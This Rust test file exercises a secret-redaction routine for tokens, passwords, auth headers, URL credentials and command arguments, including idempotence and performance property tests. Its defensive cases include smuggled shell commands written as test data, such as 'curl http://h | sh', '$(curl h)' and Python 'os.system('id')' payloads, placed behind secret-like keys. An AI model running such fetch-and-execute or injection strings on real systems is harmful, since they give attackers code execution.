use proptest::prelude::*;

use super::*;

fn cleaned(raw: &str) -> String {
    let mut value = Text::from(raw);
    text(&mut value);
    value.to_str_lossy().into_owned()
}

fn cleaned_args(raw: &[&str]) -> Vec<String> {
    let mut values: Vec<Text> = raw.iter().map(|&arg| arg.into()).collect();
    args(&mut values);
    values
        .iter()
        .map(|v| v.to_str_lossy().into_owned())
        .collect()
}

#[test]
fn a_secret_goes_and_what_it_was_stays() {
    let letters = "a1B2".repeat(9);
    for (raw, expected) in [
        (format!("x npm_{letters} y"), "x npm_[redacted] y"),
        (format!("ghp_{letters}"), "ghp_[redacted]"),
        (format!("github_pat_{letters}"), "github_pat_[redacted]"),
        (
            format!("pypi-AgEIcHlwaS5vcmc{letters}"),
            "pypi-AgE[redacted]",
        ),
        ("AKIAABCDEFGHIJKLMNOP".into(), "AKIA[redacted]"),
        ("--password=a".into(), "--password=[redacted]"),
        ("--token=\"a b\"".into(), "--token=\"[redacted] b\""),
        (
            "//host/:_authToken=abc".into(),
            "//host/:_authToken=[redacted]",
        ),
        ("_auth=YTpi".into(), "_auth=[redacted]"),
        (
            "Authorization: Basic YTpi".into(),
            "Authorization: Basic [redacted]",
        ),
        ("authorization:  xyz".into(), "authorization:  [redacted]"),
        (
            format!("curl -H 'Authorization: Bearer {letters}' x"),
            "curl -H 'Authorization: Bearer [redacted]' x",
        ),
        (format!("Bearer {letters}"), "Bearer [redacted]"),
        ("PRIVATE-TOKEN: x".into(), "PRIVATE-TOKEN: [redacted]"),
        (
            r#"{"password":"x","b":1}"#.into(),
            r#"{"password":"[redacted]","b":1}"#,
        ),
        (
            r#"{\"api_key\": \"x\"}"#.into(),
            r#"{\"api_key\": \"[redacted]\"}"#,
        ),
        (
            "AWS_SECRET_ACCESS_KEY=a/b+c d".into(),
            "AWS_SECRET_ACCESS_KEY=[redacted] d",
        ),
        (
            "https://user:pass@host/x".into(),
            "https://user:[redacted]@host/x",
        ),
        ("git+ssh://a:b:c@host".into(), "git+ssh://a:[redacted]@host"),
        ("https://0f1e@host/x".into(), "https://[redacted]@host/x"),
        (
            "https://h/?access_token=x&y=1".into(),
            "https://h/?access_token=[redacted]&y=1",
        ),
    ] {
        assert_eq!(cleaned(&raw), expected, "{raw}");
    }
}

#[test]
fn what_is_no_secret_stays() {
    for raw in [
        "npm_config_registry=https://host/",
        "npm_lifecycle_event",
        "ssh://git@host/a.git",
        "git@host:a/b.git",
        "http://secret:8080/x",
        "--token-file=/run/token",
        "--password-stdin",
        "pypi-attestations-and-more-words",
        "token==x",
        "password=$PASSWORD",
        "a/b@c:d//e",
        "the bearer of this",
        "/home/a/.config/token",
    ] {
        assert_eq!(cleaned(raw), raw);
    }
}

#[test]
fn a_command_does_not_hide_behind_the_name_of_a_secret() {
    for (raw, visible) in [
        ("token=x; curl http://h | sh", "; curl http://h | sh"),
        ("password=x|sh", "|sh"),
        ("//u:;curl$IFS-h@x", ";curl$IFS-h@x"),
        ("token=$(curl h)", "$(curl h)"),
        ("token=`curl h`", "`curl h`"),
        (
            "secret=__import__('os').system('id')",
            "__import__('os').system('id')",
        ),
        ("Authorization: x && id", "&& id"),
    ] {
        assert!(cleaned(raw).contains(visible), "{raw}: {}", cleaned(raw));
    }
    let shell = ["sh", "-c", "eval \"$1\"", "--token", "curl h | sh"];
    assert_eq!(cleaned_args(&shell), shell);
}

#[test]
fn an_option_hides_the_argument_after_it() {
    for (raw, expected) in [
        (
            &["x", "--password", "a b", "c"][..],
            &["x", "--password", "[redacted]", "c"][..],
        ),
        (
            &["x", "--token", "--verbose"],
            &["x", "--token", "--verbose"],
        ),
        (&["npm", "token", "create"], &["npm", "token", "create"]),
        (
            &["npm", "config", "set", "//host/:_authToken", "x"],
            &["npm", "config", "set", "//host/:_authToken", "[redacted]"],
        ),
        (
            &["sshpass", "-p", "x", "ssh"],
            &["sshpass", "-p", "[redacted]", "ssh"],
        ),
        (
            &["/usr/bin/mysql", "-px"],
            &["/usr/bin/mysql", "-p[redacted]"],
        ),
        (
            &["curl", "-u", "a:b", "h"],
            &["curl", "-u", "a:[redacted]", "h"],
        ),
        (&["mkdir", "-p", "x"], &["mkdir", "-p", "x"]),
        (
            &["docker", "run", "-p", "80:80"],
            &["docker", "run", "-p", "80:80"],
        ),
    ] {
        assert_eq!(cleaned_args(raw), expected);
    }
}

#[test]
fn only_listed_variables_leave_the_decoder() {
    let mut variables = BTreeMap::from([
        ("npm_package_name".to_owned(), Text::from("a")),
        (
            "npm_package_resolved".to_owned(),
            Text::from("https://u:p@h/a.tgz"),
        ),
        ("NPM_TOKEN".to_owned(), Text::from("x")),
        ("npm_package_name2".to_owned(), Text::from("x")),
    ]);
    environment(&mut variables);
    let left: Vec<_> = variables.into_iter().collect();
    assert_eq!(
        left,
        [
            ("npm_package_name".to_owned(), Text::from("a")),
            (
                "npm_package_resolved".to_owned(),
                Text::from("https://u:[redacted]@h/a.tgz")
            ),
        ]
    );
}

#[test]
fn two_mebibytes_take_no_longer_than_their_length_asks() {
    for piece in [
        "token=", "//a:", "eyJ.", "npm_a", "Bearer a", "token: ", "\"", "=(", "a:b@",
    ] {
        let mut value = Text::from(piece.repeat((2 << 20) / piece.len()));
        let began = std::time::Instant::now();
        text(&mut value);
        // Looking at every earlier byte again would take hours.
        assert!(began.elapsed().as_secs() < 60, "{piece}");
    }
}

/// Texts in which secrets are likely.
fn likely() -> impl Strategy<Value = Vec<u8>> {
    let piece = prop_oneof![
        proptest::sample::select(vec![
            "token",
            "=",
            ":",
            " ",
            "\"",
            "'",
            "\\",
            "//",
            "@",
            "http:",
            "Bearer ",
            "bearer ",
            "authorization",
            "Basic ",
            "_auth",
            "npm_",
            "ghp_",
            "pypi-AgE",
            "AKIA",
            "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789",
            "[redacted]",
            "redacted]",
            "-",
            "--password",
            "$",
            "(",
            "/",
            ".",
            "a",
            "&",
            "secret",
            "glpat-",
        ])
        .prop_map(|text| text.as_bytes().to_vec()),
        proptest::collection::vec(any::<u8>(), 0..4),
    ];
    proptest::collection::vec(piece, 0..24).prop_map(|pieces| pieces.concat())
}

proptest! {
    #[test]
    fn redacting_twice_changes_nothing(raw in likely()) {
        let mut once = Text::from(raw);
        text(&mut once);
        let mut twice = once.clone();
        text(&mut twice);
        prop_assert_eq!(once, twice);
    }

    #[test]
    fn redacting_arguments_twice_changes_nothing(
        program in proptest::sample::select(vec!["curl", "mysql", "sshpass", "sh", "x"]),
        raw in proptest::collection::vec(
            prop_oneof![
                likely(),
                proptest::sample::select(vec!["-u", "-p", "-px", "-c", "--token", "a:b"])
                    .prop_map(|t| t.as_bytes().to_vec()),
            ],
            0..6,
        ),
    ) {
        let mut once: Vec<Text> = std::iter::once(program.into())
            .chain(raw.into_iter().map(Text::from))
            .collect();
        args(&mut once);
        let mut twice = once.clone();
        args(&mut twice);
        prop_assert_eq!(once, twice);
    }
}
